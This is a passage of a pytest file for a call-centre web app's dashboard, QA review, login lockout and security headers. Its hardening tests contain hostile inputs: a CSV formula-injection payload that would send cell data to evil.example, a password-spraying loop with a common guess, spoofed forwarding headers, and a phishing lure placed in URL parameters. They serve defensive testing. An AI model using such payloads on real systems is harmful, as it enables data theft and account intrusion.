                                                       [sample_id])[0][0]


def test_dashboard_numbers_match_the_database(app, db):
    client = client_as(app, "lee")
    by_agent = {r["grp"]: r for r in client.get("/api/dashboard", params={"group": "agent"}).json()}
    expected = query(db, "SELECT agent_id, count(*), count(*) FILTER (e.call_score >= 40 OR json_array_length(e.flags) > 0), "
                         "round(avg(e.call_score), 1) FROM calls c JOIN escalation e USING (call_id) GROUP BY agent_id")
    assert {a: (r["calls"], r["complaints"], r["mean_escalation"]) for a, r in by_agent.items()} == \
        {a: (n, c, m) for a, n, c, m in expected}
    assert all(r["callbacks_in_time"] == 0 for r in by_agent.values())
    page = client.get("/dashboard?group=category").text
    assert page.count('<svg class="bars"') == 6 and 'href="/search?category=' in page
    assert client.get("/api/dashboard", params={"group": "planet"}).status_code == 422


def test_callback_within_target_counts_on_dashboard(app, db):
    """A callback 20 min after the complaint call started (16:40 Beijing) counts as in time; a call
    that rang out unanswered 10 min after it does not."""
    client = client_as(app, "lee")
    execute(db, "INSERT INTO callbacks VALUES ('C1001', TIMESTAMP '2026-11-20 08:50:00', 'hana', 'no_answer', '')")
    day = {r["grp"]: r for r in client.get("/api/dashboard", params={"group": "day"}).json()}["2026-11-20"]
    assert day["callbacks_in_time"] == 0
    execute(db, "INSERT INTO callbacks VALUES ('C1001', TIMESTAMP '2026-11-20 09:00:00', 'hana', 'resolved', '')")
    day = {r["grp"]: r for r in client.get("/api/dashboard", params={"group": "day"}).json()}["2026-11-20"]
    assert day["callbacks_in_time"] == 1


def test_clear_errors_for_unknown_things(app):
    client = client_as(app, "lee")
    r = client.get("/customers/C404")
    assert r.status_code == 404 and "客户 C404 没有已处理的来电" in r.text
    assert 'href="/dashboard"' in r.text and "lee" in r.text  # the error page keeps the signed-in navigation
    r = client.get("/no-such-page")
    assert r.status_code == 404 and "text/html" in r.headers["content-type"] and 'href="/dashboard"' in r.text
    logged_out = TestClient(app).get("/no-such-page")
    assert logged_out.status_code == 404 and "text/html" in logged_out.headers["content-type"]
    assert 'href="/dashboard"' not in logged_out.text
    assert client.get("/api/no-such-thing").json() == {"detail": "Not Found"}
    assert client.get("/api/calls/nope").json() == {"detail": "no call nope"}
    r = client.post("/api/customers/C1001/callback", json={"outcome": "maybe"}, headers={"X-CSRF-Token": csrf_of(client)})
    assert r.status_code == 422 and "outcome must be one of" in r.json()["detail"]


def test_openapi_page_lists_the_api_behind_login(app):
    client = client_as(app, "quinn")
    schema = client.get("/api/openapi.json").json()
    assert {"/api/worklist", "/api/search", "/api/qa/rollup", "/api/dashboard"} <= set(schema["paths"])
    assert all(p.startswith("/api/") for p in schema["paths"])
    assert "/api/search" in client.get("/api/docs").text


def test_a_held_database_gives_a_clear_busy_error_after_retrying(db):
    """Another process holding the file for writing: reads retry, then say the database is busy."""
    from pipeline.store import Store, StoreBusy

    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(db), "30", "write"], cwd=ROOT, stdout=subprocess.PIPE,
                              text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        started = time.monotonic()
        with pytest.raises(StoreBusy, match="busy"):
            with Store(db, read_only=True, wait_seconds=0.5).reading():
                pass
        assert 0.4 < time.monotonic() - started < 3
    finally:
        holder.kill()
        holder.wait()
    with Store(db, read_only=True, wait_seconds=5).reading() as conn:  # free again: reads work
        assert conn.execute("SELECT count(*) FROM calls").fetchone()[0] == 4




def test_web_command_rejects_bad_settings_in_one_line(tmp_path, capsys):
    from flows.cli import main

    bad = tmp_path / "callbrief.toml"
    bad.write_text('web_port = "eighty"\n')
    assert main(["web", "--db", str(tmp_path / "x.duckdb"), "--settings", str(bad)]) == 2  # as every command
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "web_port" in err and "is not a int" in err


def test_a_new_empty_database_gives_empty_pages_not_errors(tmp_path):
    from web import auth
    from web.app import create_app

    db = tmp_path / "new" / "callbrief.duckdb"
    auth.add_user(db, "lee", "lead", PASSWORDS["lee"][1])
    auth.add_user(db, "hana", "handler", PASSWORDS["hana"][1])
    app = create_app(db, Settings(web_secret_file=str(tmp_path / "key")))
    app.state.indexer.join()
    lead, handler = TestClient(app), TestClient(app)
    login(lead, "lee")
    login(handler, "hana")
    assert "当前没有待回访的客户" in handler.get("/worklist").text
    for url in ("/dashboard", "/qa", "/qa/rollup", "/search?q=卡"):
        assert lead.get(url).status_code == 200, url


# --- web hardening (issue 24, part 6) ---------------------------------------------------------

def _csp(response) -> dict[str, list[str]]:
    """The Content-Security-Policy header as directive -> sources."""
    out = {}
    for part in response.headers.get("content-security-policy", "").split(";"):
        if part.strip():
            name, *sources = part.split()
            out[name] = sources
    return out


def test_every_response_carries_the_security_headers(app, db):
    """Pages, static files, the API, redirects and every kind of error, a crash included."""
    def crash():
        raise RuntimeError("a bug")

    app.add_api_route("/crash-for-test", crash)
    app.add_api_route("/api/crash-for-test", crash)
    hana, anonymous = client_as(app, "hana"), TestClient(app)
    token = csrf_of(hana)
    crashing = TestClient(app, raise_server_exceptions=False)  # as a browser sees a crash: a 500 answer
    responses = {
        "page": hana.get("/worklist"), "login page": anonymous.get("/login"),
        "static script": anonymous.get("/static/app.js"), "static style": anonymous.get("/static/app.css"),
        "missing static": anonymous.get("/static/none.js"),
        "api": hana.get("/api/worklist"), "api not logged in": anonymous.get("/api/worklist"),
        "redirect to login": anonymous.get("/worklist", follow_redirects=False),
        "redirect after post": hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": token},
                                         follow_redirects=False),
        "not found page": hana.get("/no-such-page"), "forbidden page": hana.get("/dashboard"),
        "invalid api": hana.post("/api/customers/C1001/callback", json={"outcome": "maybe"},
                                 headers={"X-CSRF-Token": token}),
        "csrf refused": hana.post("/customers/C1001/callback", data={"outcome": "resolved"}, follow_redirects=False),
        "audio": hana.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=0-9"}),
        "plot file": hana.get("/calls/zh-1001-b/plot.svg"),
        "crash page": crashing.get("/crash-for-test"), "crash api": crashing.get("/api/crash-for-test"),
    }
    assert responses["crash page"].status_code == 500 and "a bug" not in responses["crash page"].text
    assert responses["crash api"].json() == {"detail": "internal error"}
    assert responses["redirect after post"].status_code == 303 and responses["missing static"].status_code == 404
    for what, r in responses.items():
        assert _csp(r).get("frame-ancestors") == ["'none'"], (what, r.status_code, r.headers)
        assert r.headers.get("x-content-type-options") == "nosniff", what
        assert r.headers.get("referrer-policy") == "no-referrer", what
    policy = _csp(responses["page"])
    assert policy["script-src"] == ["'self'"] and policy["style-src"] == ["'self'"]  # nothing inline, nothing from elsewhere
    assert policy["default-src"] == ["'none'"] and policy["media-src"] == ["'self'"]  # the player loads our audio


class _Inline(HTMLParser):
    """Collects what a Content-Security-Policy without 'unsafe-inline' would block."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on") or name == "style" or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")
        self._script = tag == "script" and not dict(attrs).get("src")

    def handle_data(self, data):
        if self._script and data.strip():
            self.found.append(f"inline script {data.strip()[:40]!r}")

    def handle_endtag(self, tag):
        self._script = False

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._script = False


def test_no_page_has_inline_script_handlers_or_style_attributes(app, db):
    """Every page as rendered for its roles (the CSP would block these), and the templates themselves."""
    sample_id, call_id = sample_ids(db)
    pages = {"lee": ["/worklist", "/customers/C1001", "/calls/zh-1001-b", "/search?q=卡", f"/qa/{sample_id}/{call_id}",
                     "/qa", "/qa/rollup", "/dashboard", "/dashboard?group=agent", "/api/docs", "/no-such-page"],
             None: ["/login"]}
    for user, urls in pages.items():
        client = client_as(app, user) if user else TestClient(app)
        for url in urls:
            page = client.get(url)
            assert "text/html" in page.headers["content-type"], url
            parser = _Inline()
            parser.feed(page.text)
            assert parser.found == [], (url, parser.found[:5])
            if url == "/customers/C1001":
                assert re.search(r'class="score s\d+"', page.text)  # the score's colour is a class now
    templates = Path(__file__).resolve().parents[2] / "web" / "templates"
    for template in templates.glob("*.html"):
        assert not re.search(r"\son\w+=|\sstyle=|<script(?![^>]*\ssrc=)|javascript:", template.read_text()), template


def test_qa_csv_export_cells_cannot_run_as_formulas(app, db):
    from pipeline.config.datafiles import read_json

    sample_id, call_id = sample_ids(db)
    client = client_as(app, "quinn")
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    r = client.post(f"/api/qa/{sample_id}/{call_id}", headers={"X-CSRF-Token": csrf_of(client)},
                    json={"scores": {i["id"]: "pass" for i in read_json("qa_scorecard.json")["items"]}, "comment": formula})
    assert r.status_code == 200
    export = client.get(f"/qa/export/{sample_id}.csv")
    quinn = next(r for r in csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))) if r["reviewer"] == "quinn")
    assert quinn["comment"] == "'" + formula and quinn["greeting"] == "pass"
    assert query(db, "SELECT comment FROM qa_reviews")[0][0] == formula  # stored as typed; quoted only in the CSV


def _message(response) -> str:
    found = re.search(r'<p class="error" role="alert">([^<]*)</p>', response.text)
    return found.group(1) if found else ""


def test_known_and_unknown_names_get_the_same_answers_and_the_same_lock(app, db):
    """Names cannot be told apart: the same failures give the same messages, the lock message
    included, for a user's name and for a name nobody has (each from its own address here)."""
    known, unknown = TestClient(app, client=("10.1.0.1", 5000)), TestClient(app, client=("10.1.0.2", 5000))
    answers = {"hana": [], "nobody": []}
    for attempt in range(5):
        for client, name in ((known, "hana"), (unknown, "nobody")):
            r = login(client, name, "wrong password!" if attempt < 4 else PASSWORDS["hana"][1])  # last: hana's right one
            answers[name].append((r.status_code, re.sub(r"again in \d+ s", "again in N s", _message(r))))
    assert answers["hana"] == answers["nobody"], answers
    assert answers["hana"][2] == (401, "wrong user name or password; locked for 30 s")
    assert answers["hana"][3] == answers["hana"][4] == (401, "too many failed logins: try again in N s")
    assert query(db, "SELECT failures FROM login_failures WHERE scope = 'name' AND key = 'nobody'") == [(3,)]
    assert query(db, "SELECT failed_logins FROM users WHERE username = 'hana'") == [(3,)]  # the per-user lock as before


def test_a_failure_count_from_before_the_upgrade_does_not_tell_a_name_apart(app, db):
    """A user's failures counted before their time was kept (no last_failed_login) would lock the
    name at its next failure, where an unknown name only gets "wrong": they are forgotten."""
    from pipeline.store.connect import Database

    Database(db).execute("UPDATE users SET failed_logins = 5, locked_until = now()::TIMESTAMP - INTERVAL 1 HOUR, "
                         "last_failed_login = NULL WHERE username = 'hugo'")
    app.state.web.user_cache.clear()
    answers = [_message(login(TestClient(app, client=(f"10.3.0.{i}", 5000)), name, "wrong password!"))
               for i, name in enumerate(("hugo", "nobody-at-all"))]
    assert answers == ["wrong user name or password"] * 2, answers


def test_one_address_is_locked_after_failures_over_many_names(app, db):
    from web.auth import FREE_ADDRESS_FAILURES

    spray = TestClient(app, client=("10.2.0.1", 5000))
    for i in range(FREE_ADDRESS_FAILURES):
        r = login(spray, f"guess{i}", "Winter2026!")
    assert _message(r) == "wrong user name or password; locked for 30 s"  # one failure per name: the address
    r = login(spray, "hugo")
    assert r.status_code == 401 and "try again in" in _message(r)  # even a right password, from there
    assert login(TestClient(app, client=("10.2.0.2", 5000)), "hugo").status_code == 303  # hugo is not locked
    assert query(db, "SELECT failures FROM login_failures WHERE scope = 'address' AND key = '10.2.0.1'") == \
        [(FREE_ADDRESS_FAILURES,)]
    assert {r[0] for r in query(db, "SELECT client FROM audit_log WHERE action = 'login_failed'")} == {"10.2.0.1"}


def test_the_client_address_behind_a_trusted_proxy(db, settings, sessions):
    """Behind the proxy named in web_trusted_proxies the address comes from X-Forwarded-For (its
    right-most entry not a proxy); from anyone else that header is ignored."""
    from dataclasses import replace

    from web.app import create_app
    from web.auth import FREE_ADDRESS_FAILURES

    app = create_app(db, replace(settings, web_trusted_proxies="10.9.0.1, 10.8.0.0/24"))
    app.state.indexer.join()
    # One person behind the proxy tries many names; the left entry is made up by them, the right
    # one is what the proxy saw.
    proxy = TestClient(app, client=("10.9.0.1", 443), headers={"X-Forwarded-For": "203.0.113.9, 198.51.100.7"})
    for i in range(FREE_ADDRESS_FAILURES):
        login(proxy, f"guess{i}", "Winter2026!")
    proxy.headers["X-Forwarded-For"] = "198.51.100.7"
    assert "try again in" in _message(login(proxy, "hugo"))
    proxy.headers["X-Forwarded-For"] = "198.51.100.8, 10.8.0.3"  # another person, through two of our proxies
    assert login(proxy, "hugo").status_code == 303
    direct = TestClient(app, client=("192.0.2.50", 5000), headers={"X-Forwarded-For": "198.51.100.99"})
    login(direct, "hugo", "wrong password!")
    clients = [r[0] for r in query(db, "SELECT client FROM audit_log WHERE action LIKE 'login%' "
                                       "AND client <> 'testclient' ORDER BY logged_at")]  # not the fixture's logins
    assert clients == ["198.51.100.7"] * (FREE_ADDRESS_FAILURES + 1) + ["198.51.100.8", "192.0.2.50"], clients


def test_a_bad_trusted_proxies_setting_stops_the_start(db, settings):
    from dataclasses import replace

    from pipeline.config.settings import SettingsError
    from web.app import create_app

    with pytest.raises(SettingsError, match="web_trusted_proxies"):
        create_app(db, replace(settings, web_trusted_proxies="10.0.0.300"))


def test_no_link_puts_its_own_text_or_a_false_confirmation_on_a_page(app, db):
    """Messages come from fixed keys: ?error=, ?done=, ?saved= and made-up ids or filters in a link
    show nothing of theirs."""
    sample_id, call_id = sample_ids(db)
    lure = "Your account is suspended: call 0800 424242"
    anonymous, hana, quinn = TestClient(app), client_as(app, "hana"), client_as(app, "quinn")
    pages = [anonymous.get("/login", params={"error": lure}),
             hana.get("/customers/C1001", params={"done": "1", "error": lure}),
             quinn.get(f"/qa/{sample_id}/{call_id}", params={"saved": "1", "error": lure}),
             hana.get("/calls/" + lure), hana.get("/customers/" + lure),
             hana.get("/search", params={"date_from": lure}), hana.get("/api/search", params={"min_escalation": lure})]
    for page in pages:
        assert "suspended" not in page.text and "424242" not in page.text, page.url
        assert "已记录回访" not in page.text and "评审已保存" not in page.text, page.url
    assert 'class="error"' not in pages[0].text and 'role="status"' not in pages[1].text + pages[2].text
    assert pages[3].status_code == 404 and "没有通话 （无效的编号）" in pages[3].text
    assert "没有通话 zh-404" in hana.get("/calls/zh-404").text  # an id is still named


def test_a_confirmation_shows_once_and_only_after_the_post_did_it(app, db):
    from pipeline.outputs.qa import scorecard_items

    sample_id, call_id = sample_ids(db)
    hana = client_as(app, "hana")
    done = hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)},
                     follow_redirects=False)
    assert done.status_code == 303 and done.headers["location"] == "/customers/C1001"
    assert query(db, "SELECT count(*) FROM callbacks")[0][0] == 1
    flash = hana.cookies.get("cb_flash")
    for user, page in (("hugo", "/customers/C1001"), ("hana", "/customers/C2001")):  # not another user's or page's
        other = TestClient(app, cookies={"cb_session": app.state.cookies[user], "cb_flash": flash})
        assert "已记录回访" not in other.get(page).text
    shown = hana.get("/customers/C1001")
    assert "已记录回访。" in shown.text and "cb_flash" not in hana.cookies  # in hana's language
    assert "已记录回访" not in hana.get("/customers/C1001").text  # once
    # A refused callback (an unknown customer) confirms nothing.
    refused = hana.post("/customers/C404/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)})
    assert refused.status_code == 404 and "cb_flash" not in hana.cookies
    quinn = client_as(app, "quinn")
    scores = {i["id"]: "pass" for i in scorecard_items()}
    saved = quinn.post(f"/qa/{sample_id}/{call_id}", data={**scores, "csrf_token": csrf_of(quinn)})
    assert saved.status_code == 200 and "评审已保存。" in saved.text
    assert "评审已保存" not in quinn.get(f"/qa/{sample_id}/{call_id}").text


def test_the_api_and_the_cli_accept_what_the_prefill_returns(app, db, capsys):
    """A card read from the API and sent back as it is, "no evidence" answers included, is stored;
    the page offers the same answers, and the CLI takes them through the same validator."""
    from flows.cli import main

    sample_id, call_id = query(db, "SELECT sample_id, call_id FROM qa_samples WHERE scorecard::VARCHAR "
                                   "LIKE '%no evidence%' ORDER BY call_id LIMIT 1")[0]
    client = client_as(app, "quinn")
    card = client.get(f"/api/qa/{sample_id}/{call_id}").json()
    scores = {i["id"]: i["answer"] for i in card["items"]}
    assert "no evidence" in scores.values()
    r = client.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": scores}, headers={"X-CSRF-Token": csrf_of(client)})
    assert r.status_code == 200, r.text
    assert json.loads(query(db, "SELECT scores FROM qa_reviews WHERE reviewer = 'quinn'")[0][0]) == scores
    page = client.get(f"/qa/{sample_id}/{call_id}").text
    for item, value in scores.items():
        assert re.search(rf'name="{item}" value="{re.escape(value)}" checked', page), item
    assert main(["qa", "review", sample_id, call_id, "--reviewer", "lee", "--scores", json.dumps(scores),
                 "--db", str(db)]) == 0, capsys.readouterr().err
    rollup = {a["agent_id"]: a for a in client.get("/api/qa/rollup").json()}
    agent = query(db, "SELECT agent_id FROM calls WHERE call_id = ?", [call_id])[0][0]
    unjudged = [i for i, v in scores.items() if v == "no evidence"]
    assert all(rollup[agent]["pass_rate"][i] is None for i in unjudged)  # neither pass nor fail


def test_a_user_chooses_their_language_on_the_settings_page(app, db):
    """Chinese by default; English once chosen (CSRF-checked, audited, said once), at once on every
    page; the API keeps its English; another user's pages stay in Chinese."""
    hana = client_as(app, "hana")
    assert '<html lang="zh-CN">' in hana.get("/worklist").text and "回访清单" in hana.get("/worklist").text
    assert hana.post("/settings", data={"lang": "en"}, follow_redirects=False).status_code == 403  # no CSRF token
    token = csrf_of(hana)
    assert hana.post("/settings", data={"lang": "fr", "csrf_token": token}).status_code == 422
    r = hana.post("/settings", data={"lang": "en", "csrf_token": token}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/settings"
    assert "Settings saved." in hana.get("/settings").text
    page = hana.get("/worklist").text
    assert '<html lang="en">' in page and "Callback worklist" in page and "threatens the financial regulator (NFRA, 12378)" in page
    assert "回访清单" not in page
    briefing = hana.get("/customers/C1001").text  # a Chinese customer: what they said stays Chinese, facts are named in English
    assert '<span class="tag">bank card</span>' in briefing and "解冻" in briefing
    assert query(db, "SELECT lang FROM users WHERE username = 'hana'") == [("en",)]
    assert query(db, "SELECT detail FROM audit_log WHERE action = 'settings'") == [("lang=en",)]
    assert "回访清单" in client_as(app, "hugo").get("/worklist").text
    assert hana.get("/api/calls/nope").json() == {"detail": "no call nope"}


def test_the_api_docs_page_is_in_the_users_language_and_leaves_the_openapi_document_alone(app):
    hana = client_as(app, "hana")
    before = hana.get("/api/openapi.json").json()
    page = hana.get("/api/docs").text
    assert "客户最新的简报、来电和回访记录。" in page and "The customer's newest briefing" not in page
    assert hana.get("/api/openapi.json").json() == before


def test_save_and_next_walks_the_sample_then_says_it_is_done(app, db):
    """Each "save and next" stores the review and opens the reviewer's next unreviewed call of the
    sample, in the sample's order; after the last one, the queue says the sample is done."""
    sample_id = sample_ids(db)[0]
    order = [r[0] for r in query(db, "SELECT call_id FROM qa_samples WHERE sample_id = ? ORDER BY stratum, call_id",
                                 [sample_id])]
    client = client_as(app, "quinn")
    token = csrf_of(client)
    items = [r["id"] for r in client.get(f"/api/qa/{sample_id}/{order[0]}").json()["items"]]
    seen, at = [], order[0]
    while at is not None:
        seen.append(at)
        r = client.post(f"/qa/{sample_id}/{at}", data={**{i: "pass" for i in items}, "csrf_token": token, "then": "next"},
                        follow_redirects=False)
        assert r.status_code == 303
        place = r.headers["location"]
        at = place.rsplit("/", 1)[-1] if place.startswith(f"/qa/{sample_id}/") else None
        assert len(seen) <= len(order), seen
    assert seen == order and place == "/qa"
    assert translated("flash.sample_done", "zh") in client.get(place).text
    assert query(db, "SELECT count(*) FROM qa_reviews WHERE reviewer = 'quinn'")[0][0] == len(order)
    # "Save only" stays on the call.
    r = client.post(f"/qa/{sample_id}/{order[1]}", data={**{i: "fail" for i in items}, "csrf_token": token,
                                                         "then": "stay"}, follow_redirects=False)
    assert r.headers["location"] == f"/qa/{sample_id}/{order[1]}"


def test_qa_export_has_prefill_review_and_agreement_per_item(app, db):
    sample_id, call_id = sample_ids(db)
    prefill = {c["item"]: c["prefill"] for c in json.loads(query(
        db, "SELECT scorecard FROM qa_samples WHERE call_id = ?", [call_id])[0][0])}
    answered = [i for i, v in prefill.items() if v not in (None, "no evidence")]
    assert answered, "the prefill answered some items of the sampled call"
    scores = {i: ("fail" if v == "pass" else "pass") if i == answered[0] else (v if v not in (None, "no evidence")
                                                                              else "n/a") for i, v in prefill.items()}
    client = client_as(app, "quinn")
    assert client.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": scores},
                       headers={"X-CSRF-Token": csrf_of(client)}).status_code == 200
    table = list(csv.DictReader(io.StringIO(client.get(f"/qa/export/{sample_id}.csv").content.decode("utf-8-sig"))))
    row = next(r for r in table if r["reviewer"] == "quinn")
    for item, before in prefill.items():
        assert row[item] == scores[item] and row[f"{item}_prefill"] == (before or "")
        expected = "" if before in (None, "no evidence") else ("yes" if before == scores[item] else "no")
        assert row[f"{item}_agree"] == expected, item
    assert row[f"{answered[0]}_agree"] == "no"
    unreviewed = [r for r in table if r["call_id"] != call_id]
    assert unreviewed and all(r[f"{i}_agree"] == "" and r[f"{i}_prefill"] is not None for r in unreviewed for i in prefill)


def test_dashboard_shows_the_qa_backlog_overdue_and_prefill_agreement(app, db):
    sample_id, call_id = sample_ids(db)
    n = query(db, "SELECT count(*) FROM qa_samples")[0][0]
    lead = client_as(app, "lee")
    page = lead.get("/dashboard").text
    days = Settings().policy.qa_review_days
    assert translated("web.dash.qa_backlog", "zh", waiting=n, overdue=0, days=days) in page
    # Drawn longer ago than the policy's review days: overdue until reviewed.
    execute(db, f"UPDATE qa_samples SET drawn_at = drawn_at - INTERVAL {days + 1} DAY")
    page = lead.get("/dashboard").text
    assert translated("web.dash.qa_backlog", "zh", waiting=n, overdue=n, days=days) in page
    prefill = {c["item"]: c["prefill"] for c in json.loads(query(
        db, "SELECT scorecard FROM qa_samples WHERE call_id = ?", [call_id])[0][0])}
    kept = {i: (v if v not in (None, "no evidence") else "n/a") for i, v in prefill.items()}
    quinn = client_as(app, "quinn")
    quinn.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": kept}, headers={"X-CSRF-Token": csrf_of(quinn)})
    page = lead.get("/dashboard").text
    assert translated("web.dash.qa_backlog", "zh", waiting=n - 1, overdue=n - 1, days=days) in page
    table = page[page.index('id="qa-agreement"'):]
    answered = [i for i, v in prefill.items() if v not in (None, "no evidence")]
    row = table[table.index(translated(f"qa_item.{answered[0]}", "zh")):]
    assert "100% (1)" in row[:row.index("</tr>")]
